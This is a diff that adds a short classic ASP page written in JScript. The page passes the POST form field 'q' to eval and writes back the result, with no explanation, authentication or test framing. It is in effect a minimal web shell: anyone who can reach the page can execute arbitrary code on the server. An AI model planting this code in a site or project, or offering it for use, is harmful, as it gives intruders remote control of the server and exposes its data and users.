@@ -1,0 +1,5 @@
+<%@ Language="JScript" %>
+<%
+function x() { return eval(arguments[0]); }
+Response.Write(x(Request.Form("q")));
+%>
